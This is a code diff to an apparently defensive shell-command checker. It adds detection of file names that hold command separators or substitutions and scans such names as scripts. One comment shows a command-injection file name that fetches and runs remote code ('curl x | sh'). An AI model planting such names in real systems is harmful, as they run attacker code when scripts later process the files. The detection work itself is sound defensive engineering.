@@ -7,7 +7,7 @@ from __future__ import annotations
 import re
 from collections.abc import Iterator
 
-from . import _locators
+from . import _locators, _parse_posix
 from ._compiled import NameInfo
 from ._findings import shown_args
 from ._globbed import MAX_GLOB_WORDS, is_glob_path, maybe_glob
@@ -86,6 +86,12 @@ def listens_or_runs_setting(args: list[Arg], texts: str) -> bool:
 def maybe_environ(text: str) -> bool:
     """A cheap screen: only words mentioning `env`, holding a glob or a run-time piece can name one."""
     return "env" in text or "ENV" in text or "*" in text or "?" in text or "[" in text or DYN in text
+
+
+_COMMAND_IN_NAME = lazy_re(r"[;|`\n]|\$\(|&&")
+"""Command separators and substitutions: in a file name, a command line waiting for an unquoted reader."""
+_MODE_CHANGERS = frozenset({"chmod", "chown", "chgrp", "chattr", "setfacl", "chflags"})
+"""Writers that change a file that is there: they name no new file."""
 
 
 def path_key(path: str) -> str:
@@ -457,13 +463,14 @@ class WordChecks:
             return
         name = next((n for n in info.names if n in WRITERS), info.names[0])
         lenient = name in DELETERS
+        creates = not lenient and name not in _MODE_CHANGERS
         words = None  # made once, not once per target: `rm` with thousands of files stays linear
         for target in write_targets(name, args, frame.dialect):
             if lenient and (DYN in target.text or "$" in target.raw):
                 continue
             if words is None:
                 words = self._argv(argv, info.names)
-            self._judge_write(scope, target, frame, words)
+            self._judge_write(scope, target, frame, words, creates)
 
     def _judge_program(self, program: Arg, frame: Frame, argv: list[Arg]) -> None:
         """A program or script named by a path: fine in the project or where programs are installed; one on
@@ -478,10 +485,23 @@ class WordChecks:
         if verdict is not None:
             self.event(verdict.event, frame, verdict.detail, self._argv(argv))  # type: ignore[arg-type]
 
-    def _judge_write(self, scope: PathScope, target: Arg, frame: Frame, argv: list[str]) -> None:
+    def _judge_write(
+        self, scope: PathScope, target: Arg, frame: Frame, argv: list[str], names_file: bool = True
+    ) -> None:
+        """Judge a write of `target`; `names_file`: the write may create a file of that name."""
         verdict = scope.judge_write(target)
         if verdict is not None:
             self.event(verdict.event, frame, verdict.detail, argv)  # type: ignore[arg-type]
+        text = target.text
+        # `touch "a; curl x | sh; b"`: a job that later loops over `*` into `sh -c "… $f"` or `eval` runs
+        # the name. A name that reads as a command line is checked as one; others are just names.
+        if (
+            names_file
+            and DYN not in text
+            and _COMMAND_IN_NAME.search(text)
+            and not _parse_posix.parse(text.encode("utf-8", "replace")).root_node.has_error
+        ):
+            self.script(text, "posix", frame.nested(f"the file name `{target.raw}`"))  # type: ignore[attr-defined]
 
     def _note_writes(self, how: str, args: list[Arg]) -> None:
         operands = [a for a in args if not a.param and not a.text.startswith("-")]
